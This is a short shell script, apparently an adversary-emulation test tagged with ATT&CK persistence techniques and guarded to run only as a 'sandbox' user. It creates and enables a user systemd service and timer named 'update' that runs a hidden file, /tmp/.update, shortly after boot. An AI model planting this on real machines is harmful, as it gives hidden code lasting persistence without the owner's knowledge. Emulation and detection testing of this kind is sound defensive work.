#!/bin/sh
# technique: T1053.006 T1543.002
[ "$USER" = sandbox ] || { echo "only for the inside of a sandbox: shieldx run"; exit 99; }

d="$HOME/.config/systemd/user"; mkdir -p "$d/timers.target.wants"
printf '[Service]\nExecStart=/tmp/.update\n' > "$d/update.service"; printf '[Timer]\nOnBootSec=1\n[Install]\nWantedBy=timers.target\n' > "$d/update.timer"
ln -s ../update.timer "$d/timers.target.wants/"; systemctl --user enable --now update.timer
